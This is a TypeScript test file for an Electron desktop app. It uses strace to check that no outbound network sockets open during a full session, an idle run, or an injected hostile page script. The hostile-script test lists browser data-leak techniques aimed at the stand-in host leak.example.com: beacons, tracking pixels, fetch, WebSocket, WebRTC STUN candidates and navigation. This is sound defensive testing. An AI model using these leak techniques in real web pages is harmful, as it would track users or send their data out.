import { spawn } from 'node:child_process';
import { join } from 'node:path';
import { setTimeout as pause } from 'node:timers/promises';
import { afterAll, describe, expect, test } from 'vitest';
import { bridgeCall } from '../support/bridge-call.ts';
import {
  appArguments,
  desktopEnvironment,
  desktopIsMissing,
  electronFile,
  launchDesktop,
  type OpenedDesktop,
} from '../support/launch-desktop.ts';
import { type NetworkUse, type SocketTrace, straceIsMissing, traceSockets } from '../support/socket-trace.ts';
import { makeTemporaryFolder } from '../support/temporary-folder.ts';

const missing = straceIsMissing ?? desktopIsMissing;
const title = `outbound sockets of the desktop${missing === undefined ? '' : ` (did not run: ${missing})`}`;
const home = makeTemporaryFolder();

function launchWatched(trace: SocketTrace): Promise<OpenedDesktop> {
  return launchDesktop({ userDataDir: home.path, wrapper: trace.wrapperOf(electronFile()) });
}

describe.skipIf(missing !== undefined)(title, { timeout: 120_000 }, () => {
  afterAll(() => home.remove());

  // Allowed: the two ports of 127.0.0.1 on which Playwright asked Electron to listen (--inspect,
  // --remote-debugging-port). They are the test's: the last test shows that they are not there without it.
  const ofPlaywright = ['listen 127.0.0.1:0', 'listen 127.0.0.1:0'];

  test('none in a full session: import, query, preview and export', async () => {
    const trace = traceSockets(home.path, 'session');
    const desktop = await launchWatched(trace);
    const { page } = desktop;
    const made = await bridgeCall(page, 'case.sample', {});
    const { caseId } = (made.ok ? made.value : {}) as { caseId: string };
    const out = join(home.path, 'report');
    const worked = [
      made,
      await bridgeCall(page, 'query.run', { caseId, sql: 'select count(*) from events' }),
      await bridgeCall(page, 'report.preview', { caseId, profile: 'public' }),
      await bridgeCall(page, 'report.export', { caseId, profile: 'public', formats: ['html'], out }),
    ];
    await desktop.close();
    const outcomes = worked.map((answer) => (answer.ok ? 'done' : answer.error.message));
    expect(outcomes).toEqual(worked.map(() => 'done'));
    expect(trace.uses()).toEqual(ofPlaywright);
  });

  // Allowed besides: `preconnect` and WebRTC make Chromium ask the kernel which of our addresses would be
  // used for a well-known one, and WebRTC opens ports that it then may not use. None of them ever sends; our
  // own page does neither, and no other script runs.
  const unsent = new Set<NetworkUse>([
    'open 0.0.0.0:0',
    'open [::]:0',
    'route [2001:4860:4860::8888]:443',
    'route [2001:4860:4860::8888]:53',
    'route 8.8.8.8:53',
  ]);

  test('no packet leaves, whatever a hostile script in the page tries', async () => {
    const trace = traceSockets(home.path, 'hostile');
    const desktop = await launchWatched(trace);
    const candidates = await desktop.page.evaluate(async () => {
      const host = 'leak.example.com';
      for (const [rel, href] of [
        ['preconnect', `https://${host}`],
        ['preconnect', 'https://192.0.2.1'],
        ['dns-prefetch', `//${host}`],
        ['prefetch', `https://${host}/`],
        ['stylesheet', 'http://127.0.0.1:9/x.css'],
      ] as const) {
        document.head.append(Object.assign(document.createElement('link'), { rel, href }));
      }
      new Image().src = 'http://192.0.2.1/pixel?case=1';
      navigator.sendBeacon('http://192.0.2.1/beacon', 'x');
      for (const url of [`https://${host}/`, 'http://192.0.2.1/', 'http://[2001:db8::1]/']) {
        fetch(url).catch(() => undefined);
      }
      try {
        new WebSocket(`wss://${host}/`);
      } catch {
        // Refused at once is as good.
      }
      const urls = ['stun:192.0.2.1:3478', `stun:${host}:3478`, 'stun:127.0.0.1:3478'];
      const peer = new RTCPeerConnection({ iceServers: [{ urls }] });
      const found: string[] = [];
      peer.onicecandidate = ({ candidate }) => {
        if (candidate !== null && candidate.candidate !== '') found.push(candidate.candidate);
      };
      peer.createDataChannel('leak');
      await peer.setLocalDescription(await peer.createOffer());
      window.open(`https://${host}/`);
      location.href = `https://${host}/?case=1`;
      await new Promise((resolve) => setTimeout(resolve, 5_000));
      peer.close();
      return found;
    });
    await desktop.close();
    expect(candidates).toEqual([]);
    expect(trace.uses().filter((use) => !unsent.has(use))).toEqual(ofPlaywright);
  });

  // Allowed: nothing at all, loopback included.
  test('none when nobody drives it: start, open a case, stand idle, quit', async () => {
    const trace = traceSockets(home.path, 'alone');
    const [strace = '', ...flags] = trace.command;
    const caseDir = join(home.path, 'cases', 'Sample incident');
    const args = [...flags, electronFile(), ...appArguments({ caseDir })];
    const child = spawn(strace, args, { env: await desktopEnvironment(home.path), stdio: 'ignore' });
    const ended = new Promise<number | null>((resolve) => child.once('exit', resolve));
    await pause(10_000);
    child.kill('SIGTERM');
    expect({ code: await ended, uses: trace.uses() }).toEqual({ code: 0, uses: [] });
  });
});
